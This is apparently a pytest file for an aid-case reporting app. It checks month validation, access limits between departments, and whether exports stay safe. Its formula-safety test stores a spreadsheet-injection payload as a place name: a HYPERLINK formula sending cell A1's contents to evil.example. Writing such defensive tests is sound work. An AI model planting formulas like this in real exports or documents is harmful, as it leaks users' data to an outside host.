"""Reports under hostile input (docs/reports.md): months a date cannot hold or whose next month does not
exist, asked of every report route of the API and the web UI, answer 422 ``invalid_month`` instead of
failing; place names an administrator typed as formulas stay text in every CSV and XLSX, and a control
character in a name does not break a workbook; an office above the county reads its own department's
programs, not another's. Both databases, real HTTP."""

import csv
import io

import httpx
import openpyxl
import sqlalchemy as sa

from app.db.engine import create_engine
from app.db.models import divisions
from tests.helpers import PASSWORD, PLACES, Api
from tests.test_reports import _story

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
AT_SIGN = "@SUM(1+1)"
PERIOD = {"place": "340621", "from": "2026-11", "to": "2026-12"}


def _client(api: Api) -> httpx.AsyncClient:
    """A client that gets the 500 an unhandled error becomes, as a browser would (not the exception)."""
    app = api.client._transport.app  # type: ignore[attr-defined]
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    return httpx.AsyncClient(transport=transport, base_url="http://aidflow.test")


async def _web(api: Api, username: str) -> httpx.AsyncClient:
    """A browser-like client logged in to the web UI (its own cookie jar)."""
    client = _client(api)
    page = await client.get("/ui/login")
    token = page.text.split('name="csrf_token" value="')[1].split('"')[0]
    r = await client.post("/ui/login", data={"csrf_token": token, "username": username, "password": PASSWORD})
    assert r.status_code == 303, r.text
    return client


API_ROUTES = [
    ("summary", {"from": "0999-01"}),
    ("summary", {"from": "0001-01", "to": "9999-12"}),
    ("by-place", {"to": "9999-12"}),
    ("by-place.csv", {"from": "0100-01"}),
    ("steps", {"from": "0999-12"}),
    ("summary.xlsx", {"to": "9999-12"}),
    ("cases", {"figure": "received", "month": "9999-12"}),
    ("cases.xlsx", {"figure": "received", "month": "9999-12"}),
    ("cases", {"figure": "received", "month": "0500-01"}),
    ("monthly/dibao", {"month": "0001-01"}),
    ("monthly/dibao.xlsx", {"month": "9999-12"}),
    ("summary", {"from": "２０２６-１１"}),  # full-width digits are digits to a regex's \d
]
WEB_ROUTES = [
    "/ui/reports?to=9999-12",
    "/ui/reports?from=0000-01",
    "/ui/reports?from=0001-01&to=9998-12",
    "/ui/reports/print?to=9999-12",
    "/ui/reports/months.csv?to=9999-12",
    "/ui/reports/places.xlsx?from=0000-01",
    "/ui/reports/monthly?month=0000-01",
    "/ui/reports/monthly?month=9999-12",
    "/ui/reports/monthly.xlsx?month=0999-01",
    "/ui/reports?from=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-11",
]


async def test_months_out_of_range_are_refused_on_every_route(api: Api):
    raw = _client(api)
    for path, params in API_ROUTES:
        r = await raw.get(
            f"/api/v1/reports/{path}", params={"place": "340621", **params}, headers=api.headers["county"]
        )
        assert r.status_code == 422, (path, params, r.status_code, r.text[:200])
        assert r.headers["content-type"] == "application/problem+json" and r.json()["code"] == "invalid_month"
    # The bounds themselves are months like any other.
    r = await raw.get("/api/v1/reports/summary", params={"place": "340621", "from": "1949-01", "to": "2200-12"},
                      headers=api.headers["county"])  # fmt: skip
    assert r.status_code == 200 and (r.json()["from"], r.json()["to"]) == ("1949-01", "2200-12"), r.text
    # A NUL byte is refused before any route; repeated parameters: the last one counts, and is checked.
    r = await raw.get("/api/v1/reports/summary?place=340621%00", headers=api.headers["county"])
    assert r.status_code == 422 and r.json()["code"] == "invalid_character", r.text
    r = await raw.get("/api/v1/reports/summary?place=340621&place=340622", headers=api.headers["county"])
    assert r.status_code == 403 and r.json()["code"] == "report_not_allowed", r.text
    r = await raw.get("/api/v1/reports/summary?from=2026-01&from=9999-13", headers=api.headers["county"])
    assert r.status_code == 422 and r.json()["code"] == "invalid_month", r.text
    web = await _web(api, "county")
    for path in WEB_ROUTES:
        r = await web.get(path)
        assert r.status_code == 422 and "月份" in r.text, (path, r.status_code)
    await raw.aclose()
    await web.aclose()


def _formula_cells(body: bytes) -> list[tuple[str, str, object]]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        (s.title, c.coordinate, c.value)
        for s in book
        for row in s.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _names_in_csv(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]


async def _rename_townships(api: Api, first: str, second: str) -> None:
    places = [dict(p) for p in PLACES]
    places[3]["name"], places[4]["name"] = first, second
    r = await api.put("admin", "/admin/divisions", places)
    assert r.status_code == 200, r.text


async def test_place_names_typed_as_formulas_stay_text_in_every_export(api: Api):
    await _story(api)
    await _rename_townships(api, FORMULA, AT_SIGN)
    raw, web = _client(api), await _web(api, "county")
    county = api.headers["county"]
    r = await raw.get("/api/v1/reports/by-place.csv", params=PERIOD, headers=county)
    assert r.status_code == 200
    assert _names_in_csv(r.text, "地区") == ["'" + FORMULA, "'" + AT_SIGN]
    for path in ("/ui/reports/places.csv", "/ui/reports/overdue.csv", "/ui/reports/monthly.csv"):
        r = await web.get(path, params={**PERIOD, "program": "dibao", "month": "2026-11"})
        assert r.status_code == 200, path
        names = _names_in_csv(r.text, "地区")
        assert "'" + FORMULA in names and "'" + AT_SIGN in names, (path, names)
        assert not any(n.startswith(("=", "@")) for n in names), (path, names)
    downloads = [
        await raw.get(f"/api/v1/reports/{path}", params={**PERIOD, "month": "2026-11"}, headers=county)
        for path in ("by-place.xlsx", "monthly/dibao.xlsx")
    ] + [
        await web.get(path, params={**PERIOD, "program": "dibao", "month": "2026-11"})
        for path in ("/ui/reports/places.xlsx", "/ui/reports/overdue.xlsx", "/ui/reports/monthly.xlsx")
    ]
    for r in downloads:
        assert r.status_code == 200, r.url
        assert _formula_cells(r.content) == [], r.url
        values = [
            c.value
            for s in openpyxl.load_workbook(io.BytesIO(r.content))
            for row in s.iter_rows()
            for c in row
        ]
        # The name as the administrator typed it, a string cell (a workbook's text runs nothing).
        assert FORMULA in values or any(str(v).startswith(FORMULA) for v in values), r.url

    # A control character (a copy and paste from another system) is refused in a place's name…
    places = [dict(p) for p in PLACES]
    places[3]["name"] = "濉溪\x01镇"
    r = await api.put("admin", "/admin/divisions", places)
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json", r.text
    # …and one stored before that rule (written here directly) still cannot break a workbook.
    await _rename_townships(api, "濉溪镇", "临涣镇")
    db = create_engine(api.database_url)
    try:
        async with db.begin() as conn:
            for code, name in ((PLACES[3]["code"], "濉溪\x01镇"), (PLACES[4]["code"], "临涣\x1f镇")):
                await conn.execute(sa.update(divisions).where(divisions.c.code == code).values(name=name))
    finally:
        await db.dispose()
    for r in [
        await raw.get(f"/api/v1/reports/{path}", params={**PERIOD, "month": "2026-11"}, headers=county)
        for path in ("by-place.xlsx", "monthly/dibao.xlsx")
    ] + [
        await web.get(path, params={**PERIOD, "program": "dibao", "month": "2026-11"})
        for path in ("/ui/reports/places.xlsx", "/ui/reports/monthly.xlsx")
    ]:
        assert r.status_code == 200, (r.url, r.status_code)
        values = {
            c.value
            for s in openpyxl.load_workbook(io.BytesIO(r.content))
            for row in s.iter_rows()
            for c in row
        }
        assert (
            "濉溪\ufffd镇" in values
            or "濉溪\ufffd镇（合计）" in values
            or any("濉溪\ufffd镇" in str(v) for v in values)
        ), r.url
    await raw.aclose()
    await web.aclose()


async def test_a_city_office_of_another_department_reads_neither_the_figures_nor_the_cases(api: Api):
    await _story(api)  # four 低保 cases in 濉溪县
    await api.add_people({"city_edu": ("city_education", "3406"), "city_ca": ("city_civil_affairs", "3406")})
    november = {"place": "3406", "from": "2026-11", "to": "2026-11"}
    own = await api.get("city_ca", "/reports/summary", program="dibao", **november)
    assert own.status_code == 200 and own.json()["received"] == 4, own.text  # the department that runs it
    for path, params in (
        ("summary", {"program": "dibao", **november}),
        ("by-place.csv", {"program": "dibao", **november}),
        ("cases", {"program": "dibao", "place": "3406", "figure": "received", "month": "2026-11"}),
        ("monthly/dibao", {"place": "3406", "month": "2026-11"}),
    ):
        r = await api.get("city_edu", f"/reports/{path}", **params)
        assert r.status_code == 403 and r.json()["code"] == "report_not_allowed", (path, r.text)
    everything = await api.get("city_edu", "/reports/summary", **november)
    assert everything.status_code == 200 and everything.json()["received"] == 0, everything.text
    listed = await api.get("city_edu", "/reports/cases", place="3406", figure="received", month="2026-11")
    assert listed.status_code == 200 and listed.json()["items"] == [], listed.text
    web = await _web(api, "city_edu")
    r = await web.get("/ui/reports/monthly", params={"place": "3406", "program": "dibao", "month": "2026-11"})
    assert r.status_code == 403
    await web.aclose()
